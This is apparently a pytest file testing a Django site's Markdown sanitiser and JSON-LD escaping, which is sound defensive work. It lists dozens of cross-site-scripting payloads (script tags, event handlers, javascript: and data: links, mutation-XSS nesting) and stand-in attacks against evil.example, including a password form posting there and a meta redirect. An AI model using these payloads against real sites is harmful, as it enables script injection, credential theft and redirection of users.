"""Markdown becomes HTML that holds no script, no handler, no form and no address that we would not follow."""

from collections.abc import Iterator
from html.parser import HTMLParser

import pytest
from django.test import override_settings
from django.utils.safestring import SafeString
from django.utils.translation import override

from core.text.rich import ATTRIBUTES, TAGS, rich
from core.ui.jsonld import jsonld

SCRIPTS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script\n>alert(1)</script\n>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror='alert(1)'//",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)></select>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<p onclick=alert(1)>x</p>",
    "<a href=x onmouseover=alert(1)>x</a>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<!--><script>alert(1)</script-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<xmp><script>alert(1)</script></xmp>",
    "<plaintext><script>alert(1)</script>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "# <script>alert(1)</script>",
    "|<img src=x onerror=alert(1)>|b|\n|-|-|\n|1|2|",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
]
ADDRESSES = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/1)",
    "[x](//evil.example)",
    "[x](///evil.example)",
    "[x](/\\evil.example)",
    "[x](\\\\evil.example)",
    "[x](/%5cevil.example)",
    "[x](../../admin/)",
    "[x](tel:123)",
    "[x][1]\n\n[1]: javascript:alert(1)",
    '[x](https://ok.example/"onmouseover="alert(1))',
    "[x](https://ok.example 'title\" onclick=\"alert(1)')",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/pixel.gif)",
    "[![x](https://evil.example/pixel.gif)](javascript:alert(1))",
]
WITHOUT_SCRIPT = [
    "<style>body{display:none}</style>",
    "<p style='position:fixed;inset:0'>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=//evil.example>x</button>",
    "<iframe src=//evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frameset><frame src=//evil.example></frameset>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<a id=main name=main>x</a>",
    "<h1 class=visually-there>x</h1>",
    "|a|\n|:-:|\n|1|",
]


class Seen(HTMLParser):
    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: set[tuple[str, str]] = set()
        self.addresses: list[str] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes |= {(tag, name) for name, _value in attrs}
        self.addresses += [value or "" for name, value in attrs if name == "href"]


@pytest.fixture(autouse=True)
def english() -> Iterator[None]:
    with override("en"):
        yield


ALLOWED = {(tag, name) for tag, names in ATTRIBUTES.items() for name in names}
GOOD = ("https://ok.example", "/en/")


def test_the_list_of_payloads_is_long_enough() -> None:
    assert len({*SCRIPTS, *ADDRESSES, *WITHOUT_SCRIPT}) >= 60


@pytest.mark.parametrize("payload", [*SCRIPTS, *ADDRESSES])
def test_t14_no_script_comes_out(payload: str) -> None:
    html = Seen(rich(payload))

    assert html.tags <= TAGS
    assert html.attributes <= ALLOWED
    assert all(address.startswith(GOOD) for address in html.addresses)


@pytest.mark.parametrize("payload", WITHOUT_SCRIPT)
def test_t20_no_style_form_frame_or_redirect_comes_out(payload: str) -> None:
    html = Seen(rich(payload))

    assert html.tags <= TAGS
    assert html.attributes <= ALLOWED
    assert html.addresses == []


def test_text_keeps_its_form() -> None:
    html = rich("Two *words* and **more**.\n\n1. one\n2. two\n\n> said\n\n|a|b|\n|-|-|\n|1|2|\n")

    assert isinstance(html, SafeString)
    for part in ("<em>words</em>", "<strong>more</strong>", "<li>one</li>", "<blockquote>", "<th>a</th>", "<td>2</td>"):
        assert part in html


@pytest.mark.parametrize(
    ("markdown", "tag"), [("# a", "h2"), ("## a", "h2"), ("### a", "h3"), ("#### a", "h4"), ("###### a", "h4")]
)
def test_headings_stand_below_the_title_of_the_page(markdown: str, tag: str) -> None:
    assert rich(markdown).strip() == f"<{tag}>a</{tag}>"


@pytest.mark.parametrize(
    ("address", "expected"),
    [
        ("cities/", "/ja/cities/"),
        ("/cities/kunming/?year=2024#plan", "/ja/cities/kunming/?year=2024#plan"),
        ("/zh-hans/cities/", "/zh-hans/cities/"),
        ("/static/guide.pdf", "/static/guide.pdf"),
        ("#plan", "#plan"),
        ("mailto:office@example.org", "mailto:office@example.org"),
    ],
)
def test_links_on_the_site_lead_to_the_language_of_the_reader(address: str, expected: str) -> None:
    with override("ja"):
        html = rich(f"[words]({address})")

    assert html.strip() == f'<p><a href="{expected}">words</a></p>'


def test_links_to_other_sites_are_not_vouched_for() -> None:
    html = rich("[words](https://elsewhere.example/?a=1&b=2)")

    expected = '<a href="https://elsewhere.example/?a=1&amp;b=2" rel="nofollow noopener">words</a>'
    assert html.strip() == f"<p>{expected}</p>"


@override_settings(SITE_URL="https://alliance.example")
def test_a_full_address_of_our_own_is_no_other_site() -> None:
    html = rich("[ours](https://alliance.example/en/cities/) and [not](https://alliance.example.evil.example/)")

    assert html.count("nofollow") == 1
    assert '<a href="https://alliance.example/en/cities/">ours</a>' in html


def test_the_same_text_leads_to_each_language() -> None:
    for language in ("en", "zh-hans"):
        with override(language):
            assert f'href="/{language}/cities/"' in rich("[words](cities/)")


def test_t15_data_for_machines_cannot_leave_its_element() -> None:
    html = jsonld({"name": "</script><script>alert(1)</script>&<!--", "nothing": None, "list": [{"empty": ""}]})

    assert html.count("<") == 2
    assert html == (
        '<script type="application/ld+json">{"name":"\\u003C/script\\u003E\\u003Cscript\\u003Ealert(1)'
        '\\u003C/script\\u003E\\u0026\\u003C!--"}</script>'
    )
